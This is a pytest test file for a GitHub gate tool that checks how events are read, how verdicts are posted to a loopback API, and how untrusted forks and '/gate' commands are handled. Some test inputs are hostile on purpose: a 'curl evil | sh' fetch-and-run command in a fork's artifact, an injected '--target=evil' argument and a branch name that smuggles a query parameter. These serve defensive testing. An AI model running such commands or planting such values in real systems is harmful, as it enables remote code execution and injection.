"""What an event of GitHub asks a gate, and what is posted: to a loopback API, from a repository that the test makes."""

from __future__ import annotations

import json
import os
import re
import subprocess
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest

from skillopt_mcp.cli.github import GateEvent, publish, read_event
from skillopt_mcp.core import evidence
from skillopt_mcp.core.errors import BadInput, SkillOptError
from skillopt_mcp.core.evidence import Lost, RunCounts, Units
from skillopt_mcp.core.gating import Gated, GatedSkill
from skillopt_mcp.reports.pull_request import digest_path, read_counts, render_comment
from tests.loopback_github import (
    TOKEN,
    LoopbackGithub,
    a_comment,
    a_pull,
    a_run,
    environ_of,
    serve_github,
)


@pytest.fixture
def github() -> Iterator[LoopbackGithub]:
    with serve_github() as github:
        yield github


class Repository:
    """An origin whose pull request 7 moved on from the base, and a checkout of its main branch."""

    def __init__(self, folder: Path) -> None:
        self.origin, work = folder / "origin.git", folder / "work"
        git(folder, "init", "-q", "--bare", "-b", "main", str(self.origin))
        git(folder, "init", "-q", "-b", "main", str(work))
        git(work, "remote", "add", "origin", str(self.origin))
        self.root = commit(work, "one")
        git(work, "checkout", "-q", "-b", "better-tone")
        self.head = commit(work, "two")
        git(work, "push", "-q", "origin", "HEAD:refs/pull/7/head")
        git(work, "checkout", "-q", "main")
        self.base = commit(work, "three")
        git(work, "push", "-q", "origin", "main")
        self.folder = work

    def clone(self, to: Path, *options: str) -> Path:
        git(self.origin, "clone", "-q", *options, f"file://{self.origin}", str(to))
        return to


def commit(work: Path, text: str) -> str:
    (work / "README.md").write_text(text)
    git(work, "add", ".")
    git(work, "commit", "-q", "-m", text)
    return git(work, "rev-parse", "HEAD")


def git(folder: Path, *arguments: str) -> str:
    who = ("-c", "user.name=a", "-c", "user.email=a@b.example")
    done = subprocess.run(["git", *who, *arguments], cwd=folder, capture_output=True, text=True, check=True)
    return done.stdout.strip()


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Repository:
    return Repository(tmp_path_factory.mktemp("repository"))


@pytest.fixture
def repository(made: Repository, tmp_path: Path) -> Repository:
    made.folder = made.clone(tmp_path / "checkout")
    return made


@pytest.fixture
def at_event(github: LoopbackGithub, repository: Repository, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Any:
    """Return a function that reads an event in the checkout."""

    def read(
        name: str, event: Mapping[str, Any], artifact: Path | None = None, folder: Path | None = None
    ) -> GateEvent:
        for key, value in environ_of(github, name, event, tmp_path).items():
            monkeypatch.setenv(key, value)
        return read_event(folder or repository.folder, artifact)

    return read


def a_skill(
    path: str = "skills/tone", outcome: str = "failed", verdict: str | None = "worse", **given: Any
) -> GatedSkill:
    report = evidence.TestReport(
        verdict=verdict, alpha=0.05, units=Units(seen=6, of=6, better=0, same=1, worse=5), test_id="t-1",
        runs=RunCounts(base=24, candidate=24), lost=Lost(), test_in_release=1,
    )  # fmt: skip
    return GatedSkill(
        path=path, change="changed", outcome=outcome, verdict=verdict, claim="on these cases",
        report=report if verdict else None, **given,
    )  # fmt: skip


def found_of(event: GateEvent, *skills: GatedSkill, **given: Any) -> Gated:
    return Gated(base=event.base, head=event.head, skills=list(skills), **given)


def test_a_pull_request_is_tested_from_where_it_left_the_base(at_event: Any, repository: Repository) -> None:
    event = at_event("pull_request", {"pull_request": a_pull(repository.base, repository.head)})
    assert (event.base, event.head, event.number) == (repository.root, repository.head, 7)
    assert event.counts.get(digest_path("skills/tone"), 0) == 0


def test_an_event_with_the_least_that_is_needed_is_read(at_event: Any, repository: Repository) -> None:
    pull: dict[str, Any] = {"base": {"sha": repository.base}, "head": {"sha": repository.head}}
    event = at_event("pull_request", {"number": 7, "pull_request": pull})
    assert (event.base, event.head, event.number, event.is_fork) == (repository.root, repository.head, 7, False)
    pull["head"]["repo"] = None  # the fork is gone
    assert at_event("pull_request", {"number": 7, "pull_request": pull}).is_fork


def test_a_shallow_clone_gets_what_it_misses(at_event: Any, repository: Repository, tmp_path: Path) -> None:
    shallow = repository.clone(tmp_path / "shallow", "--depth=1")
    event = at_event("pull_request", {"pull_request": a_pull(repository.base, repository.head)}, folder=shallow)
    assert event.base == repository.root


def test_the_head_is_fetched_and_never_checked_out(at_event: Any, repository: Repository) -> None:
    before = sorted(os.listdir(repository.folder / ".git"))
    at_event("pull_request", {"pull_request": a_pull(repository.base, repository.head)})
    assert (repository.folder / "README.md").read_text() == "three"
    assert set(os.listdir(repository.folder / ".git")) - set(before) <= {"shallow", "gc.log"}


def test_commits_that_are_nowhere_are_posted_as_could_not_run(at_event: Any, github: LoopbackGithub) -> None:
    event = at_event("pull_request", {"pull_request": a_pull("0" * 39 + "1", "0" * 39 + "2")})
    assert "fetch-depth: 0" in event.found.stopped
    assert publish(event, event.found) == []
    assert github.comments[0]["body"].startswith("**Could not run**")
    assert github.checks[0]["conclusion"] == "action_required"


@pytest.mark.parametrize("before", ["base", "none"])
def test_a_push_is_tested_from_what_was_there(at_event: Any, repository: Repository, before: str) -> None:
    old = {"base": repository.root, "none": "0" * 40}[before]
    event = at_event("push", {"before": old, "after": repository.base})
    assert (event.base, event.number) == ({"base": old, "none": repository.base}[before], None)


def test_a_merge_queue_is_tested_from_its_base(at_event: Any, repository: Repository) -> None:
    event = at_event("merge_group", {"merge_group": {"base_sha": repository.root, "head_sha": repository.base}})
    assert (event.base, event.head) == (repository.root, repository.base)


@pytest.mark.parametrize(
    ("name", "event"), [("pull_request", {}), ("schedule", {}), ("", {}), ("pull_request", {"pull_request": None})]
)
def test_an_event_that_says_nothing_is_bad_input(at_event: Any, name: str, event: dict[str, Any]) -> None:
    with pytest.raises(BadInput, match=r"event|--github takes"):
        at_event(name, event)


# Posting


def test_a_verdict_becomes_one_comment_and_a_check_run(
    at_event: Any, github: LoopbackGithub, repository: Repository
) -> None:
    event = at_event("pull_request", {"pull_request": a_pull(repository.base, repository.head)})
    assert publish(event, found_of(event, a_skill(number_known=True))) == []
    (comment,), (check,) = github.comments, github.checks
    assert comment["body"].startswith("**Worse on these cases**")
    assert (check["head_sha"], check["conclusion"]) == (repository.head, "failure")
    assert check["output"]["title"] == "Worse on these cases"
    assert github.tokens == {f"Bearer {TOKEN}"}
    assert TOKEN not in json.dumps([github.comments, github.checks])


def test_a_second_run_updates_the_comment_in_place_among_150_and_counts_on(
    at_event: Any, github: LoopbackGithub, repository: Repository
) -> None:
    ours = render_comment(Gated(base="a", head="b", skills=[a_skill(test_number=4)]))
    for n in range(150):
        github.add_comment(f"comment {n}", "someone")
    github.comments[40] |= {"body": ours}  # somebody else's copy
    github.comments[60] |= {"body": f"{ours}\nand more", "user": {"login": "github-actions[bot]"}}
    github.comments[130] |= {"body": ours, "user": {"login": "github-actions[bot]"}}
    event = at_event("pull_request", {"pull_request": a_pull(repository.base, repository.head)})
    assert event.counts[digest_path("skills/tone")] == 4
    assert event.counts.get(digest_path("skills/other"), 0) == 0
    assert publish(event, found_of(event, a_skill(test_number=5), a_skill("skills/new", test_number=1))) == []
    assert len(github.comments) == 150
    assert github.comments[40]["body"] == ours
    assert sorted((read_counts(github.comments[130]["body"]) or {}).values()) == [1, 5]
    assert publish(event, found_of(event, a_skill(test_number=1))) == []  # a lost cache takes nothing back
    assert sorted((read_counts(github.comments[130]["body"]) or {}).values()) == [1, 5]


@pytest.mark.parametrize(
    ("gated", "conclusion", "title"),
    [
        ({"skills": [a_skill(outcome="passed", verdict="better_here")]}, "success", "Better on these cases"),
        ({"skills": [a_skill(outcome="neutral", verdict="cant_tell")]}, "neutral", "Can't tell yet on these cases"),
        ({"skills": [a_skill(outcome="passed", verdict="better"), a_skill(outcome="neutral", verdict="cant_tell")]},
         "neutral", "Can't tell yet on these cases"),
        ({"skills": [a_skill(), a_skill("skills/bare", "not_run", None)]}, "failure", "Worse on these cases"),
        ({"skills": [a_skill("skills/bare", "not_run", None)]}, "action_required", "Could not run"),
        ({"stopped": "the login has expired"}, "action_required", "Could not run"),
        ({}, "success", "No skill changed"),
    ],
)  # fmt: skip
def test_a_check_run_says_how_it_ended(
    at_event: Any, github: LoopbackGithub, repository: Repository, gated: dict[str, Any], conclusion: str, title: str
) -> None:
    event = at_event("pull_request", {"pull_request": a_pull(repository.base, repository.head)})
    assert publish(event, Gated(base=event.base, head=event.head, **gated)) == []
    (check,) = github.checks
    assert (check["conclusion"], check["output"]["title"]) == (conclusion, title)
    assert len(github.comments) == bool(gated)  # where no skill changed, nobody is written to


def test_a_push_has_a_check_run_and_no_comment(at_event: Any, github: LoopbackGithub, repository: Repository) -> None:
    event = at_event("push", {"before": repository.root, "after": repository.base})
    assert publish(event, found_of(event, a_skill())) == []
    assert (len(github.comments), len(github.checks)) == (0, 1)


NO_RIGHT = (403, {"x-ratelimit-remaining": "4000"})


@pytest.mark.parametrize(
    ("fault", "line"),
    [
        ({"POST issues/7/comments": [NO_RIGHT]}, "the comment was not posted: .*`pull-requests: write`"),
        ({"POST check-runs": [NO_RIGHT]}, "the check run was not posted: .*`checks: write`"),
        ({"POST issues/7/comments": [(429, {"retry-after": "3600"})]}, "the comment was not posted: .*rate limit"),
        ({"POST check-runs": [(403, {"x-ratelimit-remaining": "0"})]}, "the check run was not posted: .*rate limit"),
        ({"POST check-runs": [(502, {})]}, "the check run was not posted: .*502"),
        ({"POST check-runs": [(302, {"location": "http://127.0.0.1:9/"})]}, "the check run was not posted: .*302"),
    ],
)
def test_what_is_not_posted_is_a_line(
    at_event: Any, github: LoopbackGithub, repository: Repository, fault: Any, line: str
) -> None:
    github.faults = fault
    event = at_event("pull_request", {"pull_request": a_pull(repository.base, repository.head)})
    (said,) = publish(event, found_of(event, a_skill()))
    assert re.search(line, said), said
    assert TOKEN not in said
    assert len(github.comments) + len(github.checks) == 1
    name = next(iter(fault)).split()[1]
    assert sum(path.endswith(name) for method, path in github.requests if method == "POST") == 1


def test_a_short_rate_limit_is_waited_for(at_event: Any, github: LoopbackGithub, repository: Repository) -> None:
    github.faults = {"POST check-runs": [(429, {"retry-after": "0"}), (0, {})]}
    event = at_event("pull_request", {"pull_request": a_pull(repository.base, repository.head)})
    assert publish(event, found_of(event, a_skill())) == []
    assert (len(github.comments), len(github.checks)) == (1, 1)


def test_an_api_that_is_down_costs_no_verdict(
    at_event: Any, github: LoopbackGithub, repository: Repository, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("time.sleep", lambda _: None)
    github.url = "http://127.0.0.1:9"
    event = at_event("pull_request", {"pull_request": a_pull(repository.base, repository.head)})
    assert event.counts is None  # so the number is "at least"
    lines = publish(event, found_of(event, a_skill()))
    assert len(lines) == 2
    assert all("no usable answer" in line and TOKEN not in line for line in lines)


def test_a_token_with_a_line_end_is_refused_and_not_shown(
    at_event: Any, repository: Repository, monkeypatch: pytest.MonkeyPatch
) -> None:
    event = {"pull_request": a_pull(repository.base, repository.head)}
    at_event("pull_request", event)
    monkeypatch.setenv("GITHUB_TOKEN", f"{TOKEN}\n")
    with pytest.raises(BadInput) as raised:
        read_event(repository.folder)
    assert TOKEN not in str(raised.value)


# /gate SHA


def test_a_member_has_the_head_tested_that_was_named(
    at_event: Any, github: LoopbackGithub, repository: Repository
) -> None:
    github.pulls = [a_pull(repository.base, repository.head, fork=True)]
    event = at_event("issue_comment", a_comment(f"/gate {repository.head}\r\n"))
    assert (event.base, event.head, event.number) == (repository.root, repository.head, 7)
    assert publish(event, found_of(event, a_skill())) == []
    assert github.checks[0]["head_sha"] == repository.head
    assert len(github.comments) == 1


@pytest.mark.parametrize(
    ("body", "association", "says"),
    [
        ("/gate {head}", "CONTRIBUTOR", "Only an owner"),
        ("/gate {head}", "NONE", "Only an owner"),
        ("/gate {head}", "", "Only an owner"),
        ("/gate", "OWNER", "40 digits"),
        ("/gate {short}", "OWNER", "40 digits"),
        ("/gate main", "OWNER", "40 digits"),
        ("/gate {head} --target=evil", "OWNER", "40 digits"),
        ("/gate {base}", "OWNER", "not the head"),
        ("/gate {root}", "OWNER", "not the head"),
    ],
)
def test_another_gate_command_is_answered_once_and_tests_nothing(
    at_event: Any, github: LoopbackGithub, repository: Repository, body: str, association: str, says: str
) -> None:
    shas = {"head": repository.head, "short": repository.head[:12], "base": repository.base, "root": repository.root}
    github.pulls = [a_pull(repository.base, repository.head)]
    verdict = render_comment(Gated(base="a", head="b", skills=[a_skill()]))
    github.add_comment(verdict)
    for _ in range(2):
        event = at_event("issue_comment", a_comment(body.format(**shas), association))
        assert event.nothing
        assert event.head == ""
        assert publish(event, None) == []
    assert [says in each["body"] for each in github.comments] == [False, True]
    assert github.comments[0]["body"] == verdict
    assert github.checks == []


def test_a_closed_pull_request_is_not_tested(at_event: Any, github: LoopbackGithub, repository: Repository) -> None:
    github.pulls = [a_pull(repository.base, repository.head) | {"state": "closed"}]
    assert "not the head" in at_event("issue_comment", a_comment(f"/gate {repository.head}")).nothing


@pytest.mark.parametrize("event", [a_comment("nice"), a_comment("see /gate x"), a_comment("/gated x"),
                                   a_comment("/gate " + "0" * 40, action="edited"),
                                   {**a_comment("/gate x"), "issue": {"number": 7}}])  # fmt: skip
def test_other_comments_are_no_command(at_event: Any, github: LoopbackGithub, event: dict[str, Any]) -> None:
    read = at_event("issue_comment", event)
    assert read.nothing
    assert publish(read, None) == []
    assert github.requests == []


def test_a_head_that_cannot_be_asked_about_is_not_tested(
    at_event: Any, github: LoopbackGithub, repository: Repository, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("time.sleep", lambda _: None)
    github.faults = {"GET pulls/7": [(500, {})]}
    with pytest.raises(SkillOptError, match="500"):
        at_event("issue_comment", a_comment(f"/gate {repository.head}"))


# Forks


def test_the_run_of_a_fork_posts_nothing_itself(at_event: Any, github: LoopbackGithub, repository: Repository) -> None:
    event = at_event("pull_request", {"pull_request": a_pull(repository.base, repository.head, fork=True)})
    (line,) = publish(event, found_of(event, a_skill()))
    assert "workflow_run" in line
    assert not [each for each in github.requests if each[0] != "GET"]


def artifact_of(folder: Path, gated: Gated) -> Path:
    path = folder / "skillopt-gate.json"
    path.write_text(gated.model_dump_json(by_alias=True))
    return path


def test_what_a_fork_reports_is_posted_and_makes_no_success(
    at_event: Any, github: LoopbackGithub, repository: Repository, tmp_path: Path
) -> None:
    github.pulls = [a_pull(repository.base, repository.head, fork=True)]
    good = a_skill("skills/**Better**", outcome="passed", verdict="better", test_number=900, number_known=True)
    artifact = artifact_of(tmp_path, Gated(base="x", head=repository.head, skills=[good], command="curl evil | sh"))
    event = at_event("workflow_run", a_run(repository.head), artifact)
    assert publish(event, event.found) == []
    body = github.comments[0]["body"]
    assert body.startswith("Reported by the run of a fork")
    assert "at least test 1" in body
    assert "curl" not in body
    assert read_counts(body) == {}
    assert github.checks[0]["conclusion"] == "neutral"
    assert github.checks[0]["head_sha"] == repository.head


@pytest.mark.parametrize("gated", [{}, {"skills": [a_skill(outcome="neutral", verdict="cant_tell")]}])
def test_a_fork_cannot_report_that_nothing_changed_as_a_success(
    at_event: Any, github: LoopbackGithub, repository: Repository, tmp_path: Path, gated: dict[str, Any]
) -> None:
    github.pulls = [a_pull(repository.base, repository.head, fork=True)]
    artifact = artifact_of(tmp_path, Gated(base="x", head=repository.head, **gated))
    event = at_event("workflow_run", a_run(repository.head), artifact)
    assert publish(event, event.found) == []
    assert github.checks[0]["conclusion"] == "neutral"


@pytest.mark.parametrize(
    "content",
    [
        None,
        b"",
        b"{}",
        b"[]",
        b"\xff\xfe",
        b'{"base": "a", "head": "b"}',
        b"[" * 100_000,
        b'{"base": 1}' + b" " * 10**7,
    ],
    ids=["none", "empty", "bare", "list", "no text", "other commit", "deep", "large"],
)
def test_an_artifact_that_cannot_be_read_is_could_not_run(
    at_event: Any, github: LoopbackGithub, repository: Repository, tmp_path: Path, content: bytes | None
) -> None:
    github.pulls = [a_pull(repository.base, repository.head, fork=True)]
    artifact = tmp_path / "skillopt-gate.json"
    if content is not None:
        artifact.write_bytes(content)
    event = at_event("workflow_run", a_run(repository.head), artifact)
    assert publish(event, event.found) == []
    assert github.comments[0]["body"].startswith("Reported by the run of a fork, not repeated here. **Could not run**")
    assert github.checks[0]["conclusion"] == "action_required"


@pytest.mark.parametrize("branch", ["better-tone", "another&head=harbour:main"])
def test_the_pull_request_of_a_run_is_the_one_that_has_its_commit(
    at_event: Any, github: LoopbackGithub, repository: Repository, tmp_path: Path, branch: str
) -> None:
    moved = a_pull(repository.base, repository.base, fork=True)
    github.pulls = [moved]
    artifact = artifact_of(tmp_path, Gated(base="x", head=repository.head, skills=[a_skill()]))
    event = at_event("workflow_run", a_run(repository.head, branch), artifact)
    assert event.nothing
    assert publish(event, event.found) == []
    assert (github.comments, github.checks) == ([], [])
